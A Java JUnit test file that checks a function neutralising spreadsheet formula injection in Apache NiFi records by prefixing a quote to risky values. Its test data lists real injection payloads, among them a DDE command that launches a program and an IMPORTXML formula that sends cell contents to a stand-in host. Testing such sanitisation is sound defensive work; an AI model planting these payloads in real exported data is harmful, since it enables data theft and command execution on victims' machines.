package dev.nificrm.record;

import org.apache.nifi.serialization.SimpleRecordSchema;
import org.apache.nifi.serialization.record.MapRecord;
import org.apache.nifi.serialization.record.Record;
import org.apache.nifi.serialization.record.RecordField;
import org.apache.nifi.serialization.record.RecordFieldType;
import org.junit.jupiter.api.Test;

import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;

import static org.junit.jupiter.api.Assertions.assertArrayEquals;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertSame;

class SpreadsheetFormulasTest {

    @Test
    void neutralisesTheClassicPayloads() {
        for (final String payload : List.of("=HYPERLINK(\"http://evil.example\",\"Click\")", "@SUM(A1)", "+1+1", "-2+3", "=cmd|' /C calc'!A0",
                "=1+1", "\t=1+1", "\r=1+1", "@", "=", "+", "-", "-@SUM(1)", "＝1+1", "=IMPORTXML(CONCAT(\"http://x/?\",A1),\"//a\")")) {
            assertEquals("'" + payload, SpreadsheetFormulas.neutralise(payload), payload);
        }
    }

    @Test
    void leavesNumbersPhonesAndTextAlone() {
        for (final String value : List.of("-42", "+1.5", "+14155550100", "42", "Ann", "a@example.com", "O'Brien", " =not first", "")) {
            assertSame(value, SpreadsheetFormulas.neutralise(value), value);
        }
        assertEquals(null, SpreadsheetFormulas.neutralise((String) null));
    }

    @Test
    void neutralisesTextInsideRecordsArraysAndMaps() {
        final SimpleRecordSchema childSchema = new SimpleRecordSchema(List.of(new RecordField("note", RecordFieldType.STRING.getDataType())));
        final SimpleRecordSchema schema = new SimpleRecordSchema(List.of(
                new RecordField("name", RecordFieldType.STRING.getDataType()),
                new RecordField("age", RecordFieldType.INT.getDataType()),
                new RecordField("tags", RecordFieldType.ARRAY.getArrayDataType(RecordFieldType.STRING.getDataType())),
                new RecordField("extra", RecordFieldType.MAP.getMapDataType(RecordFieldType.STRING.getDataType())),
                new RecordField("child", RecordFieldType.RECORD.getRecordDataType(childSchema))));
        final Map<String, Object> values = new LinkedHashMap<>();
        values.put("name", "=1+1");
        values.put("age", -3);
        values.put("tags", new Object[] {"@x", "ok"});
        values.put("extra", Map.of("k", "+1+1"));
        values.put("child", new MapRecord(childSchema, new LinkedHashMap<>(Map.of("note", "-2+3"))));
        final Record record = new MapRecord(schema, values);

        SpreadsheetFormulas.neutralise(record);

        assertEquals("'=1+1", record.getValue("name"));
        assertEquals(-3, record.getValue("age"));
        assertArrayEquals(new Object[] {"'@x", "ok"}, (Object[]) record.getValue("tags"));
        assertEquals(Map.of("k", "'+1+1"), record.getValue("extra"));
        assertEquals("'-2+3", ((Record) record.getValue("child")).getValue("note"));
    }
}
